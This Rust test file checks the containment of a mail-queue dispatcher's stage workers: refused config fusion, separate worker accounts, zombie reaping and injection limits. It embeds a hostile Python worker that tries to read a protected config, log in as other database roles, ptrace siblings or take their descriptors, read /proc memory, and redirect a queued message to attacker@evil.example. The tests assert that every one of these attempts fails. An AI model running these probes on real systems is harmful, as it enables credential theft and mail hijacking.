//! A compromised stage worker (§4 "Containment", amended 2026-12-04): what an
//! administrator's overlay cannot do to take an exec command out of its keeper, and
//! what a worker program written by an attacker cannot reach.

use std::path::Path;
use std::process::Output;

use serde_json::json;

use crate::util::scenario::conf;
use crate::util::{TempDir, TestDb, assert_has, assert_lacks, bin, run, stderr, stdout};

/// `PROGRAM -c conf ARGS…`.
fn program(name: &str, conf: &Path, args: &[&str]) -> Output {
    let mut all = vec!["-c", conf.to_str().unwrap()];
    all.extend_from_slice(args);
    run(&bin(name), &all)
}

/// A relay followed by an exec stage: the pipeline of the finding, fused or not.
const RELAY_THEN_ARCHIVE: &str = "[stage-relay]\nPROGRAM = {pass}\nNEXT = archive\n\n\
                                  [stage-archive]\nPROGRAM = {exec}\nCOMMAND = /bin/cat\n";

#[test]
fn a_stage_that_runs_a_command_is_never_fused_into_by_file_overlay_or_check() {
    let db = TestDb::new();
    let dir = TempDir::new("fuse-exec");
    // In the file: check names the line, the dispatcher refuses to start.
    let fused = conf(
        &dir,
        &db,
        "",
        &format!("{RELAY_THEN_ARCHIVE}FUSION = yes\n"),
    );
    let line = std::fs::read_to_string(&fused)
        .unwrap()
        .lines()
        .position(|l| l == "FUSION = yes")
        .unwrap()
        + 1;
    let checked = program("pepsi-dispatch", &fused, &["check"]);
    assert_eq!(checked.status.code(), Some(78), "{}", stdout(&checked));
    let said = format!(
        "{}:{line}: [stage-archive] FUSION: a stage that runs a COMMAND is never fused into",
        fused.display()
    );
    assert!(stdout(&checked).contains(&said), "{}", stdout(&checked));
    let serve = program("pepsi-dispatch", &fused, &["serve"]);
    assert_eq!(serve.status.code(), Some(1), "{}", stderr(&serve));
    assert!(stderr(&serve).contains(&said), "{}", stderr(&serve));

    // In the overlay: pepsi-queue config set refuses it and writes nothing; check
    // --overlay says why; a row written behind its back is an error of check.
    let conf = conf(&dir, &db, "", RELAY_THEN_ARCHIVE);
    assert_eq!(
        program("pepsi-dispatch", &conf, &["check"]).status.code(),
        Some(0)
    );
    let set = program(
        "pepsi-queue",
        &conf,
        &["config", "set", "stage-archive", "FUSION", "yes"],
    );
    assert_ne!(set.status.code(), Some(0), "{}", stdout(&set));
    assert_has!(
        stderr(&set),
        "[stage-archive] FUSION: a stage that runs a COMMAND is never fused into"
    );
    let mut c = db.client();
    let rows: i64 = c
        .query_one("SELECT count(*) FROM pepsi.config_override", &[])
        .unwrap()
        .get(0);
    assert_eq!(rows, 0, "the refused row was written");
    let dry = program(
        "pepsi-dispatch",
        &conf,
        &["check", "--overlay", "stage-archive", "FUSION", "yes"],
    );
    assert_eq!(dry.status.code(), Some(78), "{}", stdout(&dry));
    assert_has!(
        stdout(&dry),
        "pepsi.config_override: [stage-archive] FUSION: a stage that runs a COMMAND is never fused into"
    );
    c.execute(
        "INSERT INTO pepsi.config_override VALUES ('stage-archive', 'FUSION', 'yes')",
        &[],
    )
    .unwrap();
    let checked = program("pepsi-dispatch", &conf, &["check"]);
    assert_eq!(checked.status.code(), Some(78), "{}", stdout(&checked));
    assert_has!(
        stdout(&checked),
        "pepsi.config_override: [stage-archive] FUSION: a stage that runs a COMMAND is never fused into"
    );
}

/// A stage program written by an attacker, as it would run had a message compromised
/// it: it tries, on its first message, every way out of its account and its claim,
/// writes what happened to `$HOSTILE_OUT` as JSON, and then finishes its own message
/// properly (so the test knows the legitimate path works under the same account).
const HOSTILE: &str = r#"#!/usr/bin/python3
import ctypes, json, os, sys
import psycopg2

libc = ctypes.CDLL(None, use_errno=True)
report = {"uid": list(os.getresuid()), "gid": list(os.getresgid())}

def err(e):
    return getattr(e, "errno", None) or getattr(e, "pgcode", None) or str(e).splitlines()[0]

try:
    open(os.environ["PEPSI_CONFIG_ORIGIN"]).read()
    report["read_file"] = "read"
except OSError as e:
    report["read_file"] = e.errno
handed = open(os.environ["PEPSI_CONFIG"]).read()
report["handed"] = handed
conninfo = [l.split("=", 1)[1].strip() for l in handed.splitlines()
            if l.startswith("WORKER_CONNECTION")][0]

report["logins"] = {}
for role in os.environ["HOSTILE_ROLES"].split(","):
    try:
        psycopg2.connect(conninfo.replace("user=pepsi-t-worker", "user=" + role)).close()
        report["logins"][role] = "in"
    except Exception as e:
        report["logins"][role] = str(e).splitlines()[0]

me, uid = os.getpid(), os.getuid()
report["siblings"] = {}
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]:
    try:
        status = open(f"/proc/{pid}/status").read().splitlines()
    except OSError:
        continue
    fields = dict(l.split(":", 1) for l in status if ":" in l)
    if int(fields["Uid"].split()[0]) != uid:
        continue
    tried = {"name": fields["Name"].strip()}
    try:
        pidfd = os.pidfd_open(pid)
        got = [libc.syscall(438, pidfd, fd, 0) for fd in (0, 1, 3, 4)]
        tried["pidfd_getfd"] = [g if g < 0 else "took" for g in got] and ctypes.get_errno()
        tried["took"] = [fd for fd, g in zip((0, 1, 3, 4), got) if g >= 0]
    except OSError as e:
        tried["pidfd_getfd"] = e.errno
        tried["took"] = []
    ctypes.set_errno(0)
    r = libc.ptrace(16, pid, None, None)
    tried["ptrace"] = ctypes.get_errno() if r != 0 else "attached"
    for what in ("environ", "fd/0", "mem"):
        try:
            open(f"/proc/{pid}/{what}", "rb").read(16)
            tried[what] = "read"
        except OSError as e:
            tried[what] = e.errno
    report["siblings"][str(pid)] = tried

conn = psycopg2.connect(conninfo)
conn.autocommit = True
cur = conn.cursor()
cur.execute("SELECT workqueue_id FROM pepsi.workqueue WHERE stage = 'victim' AND status = 'running'")
victim = cur.fetchone()[0]
report["victim"] = victim
report["rows"] = {}
for name, sql in [
    ("update", "UPDATE pepsi.workqueue SET rcpt_to = ARRAY['attacker@evil.example'], stage = 'out' WHERE workqueue_id = %s"),
    ("delete", "DELETE FROM pepsi.workqueue WHERE workqueue_id = %s"),
    ("read_token", "SELECT claim FROM pepsi.workqueue WHERE workqueue_id = %s"),
]:
    try:
        cur.execute(sql, (victim,))
        report["rows"][name] = "done"
    except Exception as e:
        report["rows"][name] = err(e)
guessed = 0
for token in [0, 1, -1, 42] + [int.from_bytes(os.urandom(8), "big", signed=True) for _ in range(200)]:
    row = [{"id": victim, "claimed": "victim", "claim": token, "stage": "out", "status": "pending",
            "delay_ms": None, "state": {}, "rewritten": True, "mail_from": "ceo@example.org",
            "rcpt_to": ["attacker@evil.example"], "header_from": None, "subject": None}]
    cur.execute("SELECT count(*) FROM pepsi.workqueue_write(%s::jsonb)", (json.dumps(row),))
    guessed += cur.fetchone()[0]
report["rows"]["guessed_writes"] = guessed

print("ready", flush=True)
for line in sys.stdin:
    mid, token = (int(x) for x in line.split())
    cur.execute("SELECT count(*) FROM pepsi.workqueue_done(%s::jsonb)", (json.dumps([{"id": mid, "claimed": "evil", "claim": token}]),))
    report["own_finish"] = cur.fetchone()[0]
    with open(os.environ["HOSTILE_OUT"] + ".tmp", "w") as f:
        json.dump(report, f)
    os.rename(os.environ["HOSTILE_OUT"] + ".tmp", os.environ["HOSTILE_OUT"])
    print("0", flush=True)
"#;

/// A worker that says ready and holds its ids unanswered: a sibling that has not
/// made itself undumpable (no Pepsi library), whose protection is the launcher's.
const PLAIN: &str = "#!/usr/bin/python3\nimport sys, time\nprint('ready', flush=True)\nsys.stdin.readline()\ntime.sleep(60)\n";

#[test]
fn a_compromised_worker_reaches_no_other_role_no_secret_no_sibling_and_no_row_it_was_not_handed() {
    use crate::util::accounts::{account, uid_of, worker_account};
    use crate::util::dispatcher::Dispatcher;
    use crate::util::peer::PeerCluster;
    use crate::util::wait_until;
    use std::os::unix::fs::PermissionsExt;
    use std::time::Duration;

    if !crate::util::is_root() {
        eprintln!("not root: no account to switch to; nothing to check");
        return;
    }
    let run_as = account("pepsi-t-run", &[]);
    let worker = worker_account();
    let exec = account("pepsi-t-exec", &[]);
    let others = [
        "postgres",
        "pepsi-t-run",
        "pepsi_t_dispatcher",
        "pepsi_t_admin",
        "pepsi_t_mta",
    ];
    // The map of doc/roles-and-containment.md: one account, one role.
    let pg = PeerCluster::start(&[(&run_as, &run_as), (&worker, &worker)]).unwrap();
    let mut admin = pg.admin("postgres");
    admin
        .batch_execute(&format!(
            "CREATE ROLE pepsi_dispatch NOLOGIN; CREATE ROLE pepsi_worker NOLOGIN;
             CREATE ROLE pepsi_admin NOLOGIN; CREATE ROLE pepsi_inject NOLOGIN;
             CREATE ROLE \"{run_as}\" LOGIN;
             CREATE ROLE \"{worker}\" LOGIN IN ROLE pepsi_worker;
             CREATE ROLE pepsi_t_dispatcher LOGIN IN ROLE pepsi_dispatch;
             CREATE ROLE pepsi_t_admin LOGIN IN ROLE pepsi_admin;
             CREATE ROLE pepsi_t_mta LOGIN IN ROLE pepsi_inject;
             GRANT \"{worker}\" TO \"{run_as}\";"
        ))
        .unwrap();
    admin
        .batch_execute(&format!("CREATE DATABASE pepsi OWNER \"{run_as}\""))
        .unwrap();
    drop(admin);

    let dir = TempDir::new("hostile");
    std::fs::set_permissions(&dir.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = dir.path("out");
    crate::util::shared_dir(&out);
    let script = |name: &str, text: &str| {
        let p = dir.write(name, text);
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    };
    let hostile = script("hostile.py", HOSTILE);
    let plain = script("plain.py", PLAIN);
    let program = dir.path("pepsi-stage-exec");
    std::fs::copy(env!("CARGO_BIN_EXE_pepsi-stage"), &program).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let connection = |user: &str| pg.conninfo(user, "pepsi");
    let conf = dir.write(
        "pepsi.conf",
        &format!(
            "[pepsi]\nRUN_AS = {run_as}\nWORKER_AS = {worker}\n\n\
             [pepsi-postgres]\nCONNECTION = {}\nWORKER_CONNECTION = {}\n\
             ADMIN_CONNECTION = {} password=admin-secret\n\n\
             {}\
             [stage-victim]\nPROGRAM = {}\nCOMMAND = /bin/sleep 20\nUSER = {exec}\nTIMEOUT = 25s\n\n\
             [stage-plain]\nPROGRAM = {}\n\n\
             [stage-evil]\nPROGRAM = {}\n",
            connection(&run_as),
            connection(&worker),
            connection("pepsi_t_admin"),
            crate::util::scenario::timers_section("MAX_RUNTIME = 60s"),
            program.display(),
            plain.display(),
            hostile.display(),
        ),
    );
    // The file is root's and RUN_AS's group's, as the package installs it.
    let chown = std::process::Command::new("chown")
        .arg(format!("root:{run_as}"))
        .arg(&conf)
        .status()
        .unwrap();
    assert!(chown.success());
    std::fs::set_permissions(&conf, std::fs::Permissions::from_mode(0o640)).unwrap();
    let setup = run(
        &bin("pepsi-setup"),
        &["-c", conf.to_str().unwrap(), "schema"],
    );
    assert!(setup.status.success(), "{}", stderr(&setup));
    let check = program_output(&conf, "pepsi-dispatch", &["check"]);
    assert!(check.status.success(), "{}", stdout(&check));

    let mut c = pg.admin("pepsi");
    let inject = |c: &mut postgres::Client, stage: &str| -> i64 {
        c.query_one(
            "SELECT pepsi.workqueue_inject($1, 'alice@example.org', ARRAY['bob@example.org'], \
             'Subject: x\r\n'::bytea, 'body'::bytea)",
            &[&stage],
        )
        .unwrap()
        .get(0)
    };
    let victim = inject(&mut c, "victim");
    inject(&mut c, "plain");
    let report_path = out.join("report.json");
    let mut d = Dispatcher::start(
        &conf,
        &[
            ("HOSTILE_OUT", report_path.to_str().unwrap()),
            ("HOSTILE_ROLES", &others.join(",")),
        ],
    );
    let running = |c: &mut postgres::Client, stage: &str| -> bool {
        c.query_one(
            "SELECT count(*) FROM pepsi.workqueue WHERE stage = $1 AND status = 'running'",
            &[&stage],
        )
        .unwrap()
        .get::<_, i64>(0)
            == 1
    };
    wait_until(
        Duration::from_secs(30),
        "the victim and the plain worker run",
        || running(&mut c, "victim") && running(&mut c, "plain") && d.children().len() >= 2,
    );
    // The victim's command is running (its worker holds its keeper's socket).
    wait_until(Duration::from_secs(30), "the victim's command runs", || {
        d.log().contains("keeper: running [\"/bin/sleep\"")
    });
    let evil = inject(&mut c, "evil");
    wait_until(
        Duration::from_secs(60),
        "the hostile worker's report",
        || report_path.exists(),
    );
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report_path).unwrap()).unwrap();
    assert!(d.terminate().success(), "{}", d.log());
    let log = d.log();

    // It runs as WORKER_AS, with the overflow group as its real group (so it was never
    // dumpable), and its own message is its to finish.
    let wuid = uid_of(&worker);
    assert_eq!(report["uid"], json!([wuid, wuid, wuid]), "{report}");
    assert_eq!(report["gid"][0], json!(65534), "{report}");
    assert_eq!(report["own_finish"], json!(1), "{report}");
    assert!(row(&mut c, evil).is_none());
    // No secret: the file is closed to it, and its copy holds its own connection and
    // its sections, nothing of the owner's or the administrators'.
    assert_eq!(report["read_file"], json!(libc::EACCES), "{report}");
    let handed = report["handed"].as_str().unwrap();
    assert_has!(
        handed,
        &format!("WORKER_CONNECTION = {}", connection(&worker))
    );
    for secret in [
        "admin-secret",
        &format!("CONNECTION = {}", connection(&run_as)),
        "[pepsi-dispatch]",
    ] {
        assert_lacks!(handed, secret, "{secret} reached the worker");
    }
    // No other role: every login but its own is refused by the map.
    for role in others {
        let said = report["logins"][role].as_str().unwrap_or_default();
        assert_has!(
            said,
            "Peer authentication failed",
            "{role}: {said}\n{}",
            pg.log()
        );
    }
    // No sibling: neither the exec worker (its keeper's socket) nor the plain Python
    // worker, which never made itself undumpable, can be attached to, read or have a
    // descriptor taken.
    let siblings = report["siblings"].as_object().unwrap();
    let names: Vec<&str> = siblings
        .values()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"pepsi-stage-exe"), "{names:?}");
    assert!(names.contains(&"plain.py"), "{names:?}");
    for (pid, tried) in siblings {
        assert_eq!(tried["took"], json!([]), "{pid}: {tried}");
        assert_eq!(tried["ptrace"], json!(libc::EPERM), "{pid}: {tried}");
        for what in ["environ", "fd/0", "mem"] {
            assert_ne!(tried[what], json!("read"), "{pid} {what}: {tried}");
        }
    }
    // No row it was not handed: no direct write, no token to read, no guess that lands.
    for what in ["update", "delete", "read_token"] {
        assert_eq!(report["rows"][what], json!("42501"), "{what}: {report}");
    }
    assert_eq!(report["rows"]["guessed_writes"], json!(0), "{report}");
    assert_eq!(report["victim"], json!(victim));
    let (stage, rcpt): (String, Vec<String>) = c
        .query_one(
            "SELECT stage, rcpt_to FROM pepsi.workqueue WHERE workqueue_id = $1",
            &[&victim],
        )
        .map(|r| (r.get(0), r.get(1)))
        .unwrap();
    assert_eq!(
        (stage.as_str(), rcpt),
        ("victim", vec!["bob@example.org".to_string()]),
        "{log}"
    );
}

/// `PROGRAM -c conf ARGS…`, its output.
fn program_output(conf: &Path, name: &str, args: &[&str]) -> Output {
    program(name, conf, args)
}

/// A row's (stage, status), or None when it is gone.
fn row(c: &mut postgres::Client, id: i64) -> Option<(String, String)> {
    c.query_opt(
        "SELECT stage, status::text FROM pepsi.workqueue WHERE workqueue_id = $1",
        &[&id],
    )
    .unwrap()
    .map(|r| (r.get(0), r.get(1)))
}

#[test]
fn workers_run_under_an_account_of_their_own_or_the_dispatcher_refuses_to_start() {
    use std::os::unix::fs::PermissionsExt;
    if !crate::util::is_root() {
        eprintln!("not root: no account to switch to; nothing to check");
        return;
    }
    let worker = crate::util::accounts::worker_account();
    let db = TestDb::new();
    let dir = TempDir::new("worker-as");
    std::fs::set_permissions(&dir.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    let base = conf(
        &dir,
        &db,
        "",
        "[stage-a]\nPROGRAM = {pass}\nNEXT = b\n\n[stage-b]\nPROGRAM = {discard}\n",
    );
    let text = std::fs::read_to_string(&base).unwrap();
    let with = |name: &str, worker_as: &str| {
        let path = dir.write(
            name,
            &text.replace(
                "RUN_AS = root",
                &format!("RUN_AS = nobody\nWORKER_AS = {worker_as}"),
            ),
        );
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        path
    };
    for (worker_as, says) in [
        ("nobody", "[pepsi] WORKER_AS nobody is [pepsi] RUN_AS"),
        (
            "pepsi-no-such-account",
            "does not exist (create it: adduser --system",
        ),
        (
            "root",
            "[pepsi] WORKER_AS = root is allowed only with RUN_AS = root",
        ),
    ] {
        let path = with(&format!("{worker_as}.conf"), worker_as);
        let serve = program("pepsi-dispatch", &path, &["serve"]);
        assert_eq!(
            serve.status.code(),
            Some(1),
            "{worker_as}: {}",
            stderr(&serve)
        );
        assert_has!(stderr(&serve), says, "{worker_as}");
        let checked = program("pepsi-dispatch", &path, &["check"]);
        assert_eq!(
            checked.status.code(),
            Some(78),
            "{worker_as}: {}",
            stdout(&checked)
        );
        assert_has!(stdout(&checked), says, "{worker_as}");
    }
    // A file the workers' account can read: its connection strings would reach a
    // compromised worker.
    let open = with("open.conf", &worker);
    let checked = program("pepsi-dispatch", &open, &["check"]);
    assert_has!(
        stdout(&checked),
        &format!(
            "can be read by WORKER_AS {worker}: every connection string it holds reaches a compromised stage program"
        )
    );
}

/// The processes whose parent is `pid`, each with whether it is a zombie.
fn children_states(pid: u32) -> Vec<(u32, bool)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(child) = e.file_name().to_str().and_then(|n| n.parse::<u32>().ok()) else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{child}/stat")) else {
            continue;
        };
        let Some(after) = stat.rfind(')').map(|i| &stat[i + 1..]) else {
            continue;
        };
        let mut fields = after.split_whitespace();
        let state = fields.next().unwrap_or_default();
        let ppid: u32 = fields.next().and_then(|p| p.parse().ok()).unwrap_or(0);
        if ppid == pid {
            out.push((child, state == "Z"));
        }
    }
    out
}

#[test]
fn the_orphans_a_running_command_leaves_are_reaped_while_it_runs() {
    use crate::util::dispatcher::Dispatcher;
    use crate::util::wait_until;
    use std::time::Duration;
    let db = TestDb::new();
    let dir = TempDir::new("orphans");
    let out = dir.path("out");
    crate::util::shared_dir(&out);
    // 300 processes orphaned at once (each subshell exits, its sleep lives on for a
    // moment and ends), then the command runs on until the test lets it end.
    let command = dir.write(
        "orphans",
        &format!(
            "#!/bin/sh\ncat >/dev/null\ni=0\nwhile [ $i -lt 300 ]; do (sleep 0.01 &); i=$((i+1)); done\n\
             touch {out}/forked\nwhile [ ! -e {out}/done ]; do sleep 0.1; done\n",
            out = out.display()
        ),
    );
    std::fs::set_permissions(
        &command,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let conf = conf(
        &dir,
        &db,
        "",
        &format!(
            "[stage-e]\nPROGRAM = {{exec}}\nCOMMAND = {}\n",
            command.display()
        ),
    );
    let mut c = db.client();
    crate::util::inject(&mut c, "e", "a@x.example", &["r@y.example"]);
    let mut d = Dispatcher::start(&conf, &[]);
    wait_until(
        Duration::from_secs(30),
        "the command forked its orphans",
        || out.join("forked").exists(),
    );
    // The keeper: the launcher's child when the dispatcher runs as root, else the
    // worker's.
    let keeper = wait_keeper(&d);
    // Reaped while the command runs (it runs until told to end): without the keeper's
    // reaping the orphans would stay zombies, hundreds of them, until it ends. The
    // keeper reaps every 200 ms; the deadline is a busy machine's.
    let mut kids = Vec::new();
    wait_until(
        Duration::from_secs(30),
        "fewer than 50 zombies held by the keeper while the command runs",
        || {
            kids = children_states(keeper);
            kids.iter().filter(|(_, z)| *z).count() < 50
        },
    );
    assert!(
        kids.iter().any(|(_, z)| !z),
        "the command itself still runs: {kids:?}"
    );
    std::fs::write(out.join("done"), "").unwrap();
    assert!(d.terminate().success(), "{}", d.log());

    /// The keeper process, found by its name among the dispatcher's descendants.
    fn wait_keeper(d: &Dispatcher) -> u32 {
        let mut found = None;
        wait_until(Duration::from_secs(10), "the keeper", || {
            let mut todo = vec![d.pid()];
            while let Some(p) = todo.pop() {
                for (child, _) in children_states(p) {
                    let comm =
                        std::fs::read_to_string(format!("/proc/{child}/comm")).unwrap_or_default();
                    if comm.trim_end() == "pepsi-keeper" {
                        found = Some(child);
                        return true;
                    }
                    todo.push(child);
                }
            }
            false
        });
        found.unwrap()
    }
}

#[test]
fn an_injector_cannot_queue_a_huge_state_and_a_long_login_is_one_sender_with_a_short_key() {
    use super::roles::inject_login;
    let db = TestDb::new();
    let mut owner = db.client();
    owner
        .execute(pepsi::db::sql::SET_INJECT_STAGES, &[&vec!["s".to_string()]])
        .unwrap();
    let mut i = db.client_as(&inject_login());
    let inject = |c: &mut postgres::Client, login: &str, state: &str| {
        c.query_one(
            "SELECT pepsi.workqueue_inject('s', 'a@x.example', ARRAY['r@y.example'], NULL, NULL, \
             $1, NULL, NULL, NULL, $2::text::jsonb)",
            &[&login, &state],
        )
        .map(|r| r.get::<_, i64>(0))
    };
    // A state over 1 MiB is refused, whoever queues it; one below is not.
    let big = format!("{{\"x\": \"{}\"}}", "a".repeat(2 << 20));
    let err = inject(&mut i, "u", &big).unwrap_err();
    assert_eq!(
        err.code(),
        Some(&postgres::error::SqlState::INVALID_PARAMETER_VALUE),
        "{err}"
    );
    assert!(inject(&mut owner, "u", &big).is_err(), "the owner too");
    let fine = format!("{{\"x\": \"{}\"}}", "a".repeat(100_000));
    assert!(inject(&mut i, "u", &fine).is_ok());
    // A login of 3 KB (where a key of that size broke the index) is queued, and its
    // key is short; another with the same beginning is another sender.
    let long = "l".repeat(3000);
    let other = format!("{}x", "l".repeat(2999));
    let a = inject(&mut i, &long, "{}").unwrap();
    let b = inject(&mut i, &other, "{}").unwrap();
    let mut key = |id: i64| -> String {
        owner
            .query_one(
                "SELECT sender_key FROM pepsi.workqueue WHERE workqueue_id = $1",
                &[&id],
            )
            .unwrap()
            .get(0)
    };
    let (ka, kb) = (key(a), key(b));
    assert!(ka.len() <= 200 && ka.starts_with("user:lll"), "{ka}");
    assert_ne!(ka, kb);
    assert_eq!(key(inject(&mut i, "Short", "{}").unwrap()), "user:short");
}

#[test]
fn an_exec_user_in_the_group_that_reads_the_configuration_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    if !crate::util::is_root() {
        eprintln!("not root: no account to switch to; nothing to check");
        return;
    }
    // The tests' worker account is a member of nogroup, nobody's group.
    let member = crate::util::accounts::worker_account();
    let workers = crate::util::accounts::account("pepsi-t-exec", &[]);
    let db = TestDb::new();
    let dir = TempDir::new("exec-group");
    std::fs::set_permissions(&dir.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    let base = conf(
        &dir,
        &db,
        "",
        &format!("[stage-e]\nPROGRAM = {{exec}}\nCOMMAND = /bin/cat\nUSER = {member}\n"),
    );
    let text = std::fs::read_to_string(&base).unwrap().replace(
        "RUN_AS = root",
        &format!("RUN_AS = nobody\nWORKER_AS = {workers}"),
    );
    std::fs::write(&base, text).unwrap();
    std::fs::set_permissions(&base, std::fs::Permissions::from_mode(0o644)).unwrap();
    let checked = program("pepsi-dispatch", &base, &["check"]);
    assert_eq!(checked.status.code(), Some(78), "{}", stdout(&checked));
    assert_has!(
        stdout(&checked),
        &format!("USER {member} is refused: it is in the group of [pepsi] RUN_AS nobody")
    );
}
